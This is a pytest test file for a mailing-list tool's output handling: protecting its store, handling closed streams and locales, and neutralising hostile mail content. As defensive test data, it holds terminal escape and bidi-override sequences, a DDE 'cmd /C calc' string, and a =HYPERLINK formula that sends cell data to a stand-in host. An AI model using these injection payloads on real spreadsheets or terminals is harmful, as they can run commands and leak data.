"""Where results go: standard output, pipes, terminals and files, and what must never be lost."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pandas
import pytest

from tests.cli.command import on_a_terminal
from tests.store.mails import mail, mbox

STEERING = set("\x1b\x07\x9b\u202e")
BODY = "I propose that we paint the bell. \x1b[31m \x07 \u202eover \x9b2J \u2026"


@pytest.fixture
def bell(listminer, tmp_path):
    """Return the command line with one mail in its store that would steer a terminal."""
    (tmp_path / "x.mbox").write_bytes(mbox([mail(0, BODY, subject="The b\xe9ll")]))
    listminer("ingest", tmp_path / "x.mbox")
    return listminer


def in_a_shell(redirected: str, *words: str | Path, **environ: str) -> subprocess.CompletedProcess:
    """Run listminer in a process of its own, with what a shell does to its streams."""
    return subprocess.run(
        ["sh", "-c", f'exec "$0" -m listminer "$@" {redirected}', sys.executable, *words],
        capture_output=True,
        check=False,
        env={**os.environ, **environ},
    )


# files


@pytest.mark.parametrize(
    "words",
    [
        ["lists"],
        ["search", "bell", "--format", "json"],
        ["export", "messages"],
        ["export", "mbox"],
        ["show", "1", "--raw"],
        ["ingest", "x.mbox"],
        ["summarize", "1", "--format", "html"],
    ],
    ids=" ".join,
)
@pytest.mark.parametrize("end", ["", "-wal", "-shm"])
def test_no_output_is_written_over_the_store(bell, tmp_path, monkeypatch, words, end):
    monkeypatch.chdir(tmp_path)
    output = f"{bell.store}{end}"
    ran = bell(*words, "-o", output)
    assert (ran.status, ran.out) == (2, "")
    assert f"{output}: holds a store, which would be lost" in ran.err
    assert [row["messages"] for row in bell("lists", "--format", "json").json] == [1]


def test_no_output_is_written_over_a_store_by_another_name(bell, tmp_path):
    (tmp_path / "link.csv").symlink_to(bell.store)
    assert bell("stats", "--format", "csv", "-o", tmp_path / "link.csv").status == 2
    shutil.copy(bell.store, tmp_path / "old.png")
    kept = (tmp_path / "old.png").read_bytes()
    assert bell("plot", "thread", "1", "-o", tmp_path / "old.png").status == 2
    assert (tmp_path / "old.png").read_bytes() == kept


def test_any_other_file_is_written_over(bell, tmp_path):
    (tmp_path / "old.txt").write_text("SQLite is a library.")
    (tmp_path / "link.txt").symlink_to(tmp_path / "old.txt")
    ran = bell("threads", "-o", tmp_path / "link.txt")
    assert (ran.status, ran.err) == (0, f"wrote {tmp_path / 'link.txt'}\n")
    assert "The béll" in (tmp_path / "old.txt").read_text()
    assert (tmp_path / "link.txt").is_symlink()


@pytest.mark.usefixtures("bell")
def test_a_pipe_is_an_output_by_its_name():
    ran = in_a_shell("| cat", "threads", "-o", "/dev/stdout")
    assert (ran.returncode, ran.stderr) == (0, b"wrote /dev/stdout\n")
    assert "The béll" in ran.stdout.decode()


@pytest.mark.parametrize("words", [["threads"], ["export", "mbox"], ["summarize", "1"]])
@pytest.mark.usefixtures("bell")
def test_no_standard_output_is_told(tmp_path, words):
    ran = in_a_shell(">&-", *words)
    assert ran.returncode == 2
    assert b"error: standard output is closed" in ran.stderr
    assert b"Traceback" not in ran.stderr
    assert in_a_shell(">&-", *words, "-o", tmp_path / "x").returncode == 0


@pytest.mark.parametrize("words", [["ingest", "-"], ["summarize", "-"]])
@pytest.mark.usefixtures("listminer")
def test_no_standard_input_is_told(words):
    ran = in_a_shell("<&-", *words)
    assert (ran.returncode, ran.stdout) == (2, b"")
    assert ran.stderr.startswith(b"error: -: standard input is closed")


# locales


@pytest.mark.usefixtures("listminer")
def test_the_demo_runs_in_a_locale_that_lacks_its_signs():
    ran = in_a_shell("", "demo", PYTHONIOENCODING="latin-1")
    assert (ran.returncode, b"Traceback" in ran.stderr) == (0, False)
    shown = ran.stdout.decode("latin-1")
    assert 'Tomás Arriaga: "Last cycle' in shown
    assert "SUPERSEDED  +2 -1 ±3    [1]" in shown
    assert " Tomás Arriaga      o  o  ±  +  o  ·  -  P8" in shown


@pytest.mark.usefixtures("bell")
@pytest.mark.parametrize(
    "words",
    [
        ["threads", "--format", "json"],
        ["summarize", "1", "--format", "json"],
        ["proposals", "--format", "csv"],
        ["export", "messages"],
        ["graph", "sentences", "1"],
    ],
    ids=" ".join,
)
def test_what_is_for_programs_is_utf_8_in_every_locale(words):
    latin, utf_8 = (in_a_shell("", *words, PYTHONIOENCODING=each) for each in ("latin-1", "utf-8"))
    assert (latin.returncode, latin.stdout) == (0, utf_8.stdout)
    assert {"bell", "béll"} & set(re.findall(r"\w+", utf_8.stdout.decode()))


# mail that steers terminals


@pytest.mark.parametrize("words", [["search", "bell", "--format", "json"], ["export", "messages"]])
def test_json_has_all_that_the_mail_has_and_steers_nothing(bell, words):
    ran = bell(*words)
    assert set(ran.out) & STEERING == set()
    found = json.loads(ran.out)
    text = found["hits"][0]["text"] if "hits" in found else found["text"]
    assert text.strip() == BODY


@pytest.mark.parametrize(
    "words",
    [
        ["export", "messages", "--format", "csv"],
        ["export", "mbox"],
        ["proposals", "--format", "csv"],
        ["show", "1", "--raw"],
        ["graph", "sentences", "1"],
    ],
    ids=" ".join,
)
@pytest.mark.usefixtures("bell")
def test_a_terminal_is_not_steered(words):
    shown = on_a_terminal(*words)
    assert "over" in shown
    assert set(shown) & STEERING == set()


def test_csv_for_a_program_is_as_the_mail_has_it(bell):
    assert "\u202eover \x9b2J" in bell("export", "messages", "--format", "csv").out


@pytest.mark.parametrize(
    "words", [["export", "messages"], ["proposals"], ["stats"]], ids=lambda words: words[0]
)
def test_a_csv_file_says_that_it_is_utf_8_and_standard_output_does_not(bell, tmp_path, words):
    target = tmp_path / "x.csv"
    assert bell(*words, "--format", "csv", "-o", target).status == 0
    written, printed = target.read_bytes(), bell(*words, "--format", "csv").out
    assert written == b"\xef\xbb\xbf" + printed.encode()  # Excel knows it by that alone
    assert list(pandas.read_csv(target).columns) == printed.splitlines()[0].split(",")


@pytest.mark.usefixtures("bell")
def test_csv_for_a_named_pipe_is_for_a_program():
    ran = in_a_shell("", "export", "messages", "--format", "csv", "-o", "/dev/stdout")
    assert ran.stdout.startswith(b"message_id,")


@pytest.mark.parametrize("words", [["--format", "jsonl"], []])
def test_json_lines_have_no_mark(bell, tmp_path, words):
    bell("export", "messages", *words, "-o", tmp_path / "x")
    assert (tmp_path / "x").read_bytes().startswith(b"{")


def test_a_spreadsheet_runs_nothing_of_a_mail(listminer, tmp_path):
    formula = '=HYPERLINK("http://x.example/"&A1,"see")'
    text = b"From: =SUM <=a@x.org>\nSubject: %s\nMessage-ID: <=i@x.org>\n\n" % formula.encode()
    (tmp_path / "x.eml").write_bytes(text + b"+cmd|' /C calc'!A0\n")
    listminer("ingest", tmp_path / "x.eml")
    (row,) = csv.DictReader(io.StringIO(listminer("export", "messages", "--format", "csv").out))
    assert row["subject"] == "'" + formula
    assert not [cell for cell in row.values() if cell.startswith(("=", "+"))]
    assert listminer("export", "messages").json["subject"] == formula


def test_each_mark_of_a_hit_is_closed_whatever_stands_in_the_mail(listminer, tmp_path):
    body = "The \ue000 rocket \ue001 is \ue000 here."  # icon fonts use these
    (tmp_path / "x.mbox").write_bytes(mbox([mail(0, body)]))
    listminer("ingest", tmp_path / "x.mbox")
    assert "    The � *rocket* � is � here.\n" in listminer("search", "rocket").out
    marks = re.findall(r"\x1b\[[01]m", on_a_terminal("search", "rocket"))
    assert marks == ["\x1b[1m", "\x1b[0m"]


# stopped


def test_stopped_while_it_loads_it_says_nothing():
    code = (
        "import runpy, sys\n"
        "class Stop:\n"
        "    def find_spec(self, name, *_):\n"
        "        if name == 'listminer.cli':\n"
        "            raise KeyboardInterrupt\n"
        "sys.meta_path.insert(0, Stop())\n"
        "runpy.run_module('listminer', run_name='__main__')\n"
    )
    ran = subprocess.run([sys.executable, "-c", code], capture_output=True, check=False)
    assert (ran.returncode, ran.stdout, ran.stderr) == (130, b"", b"")
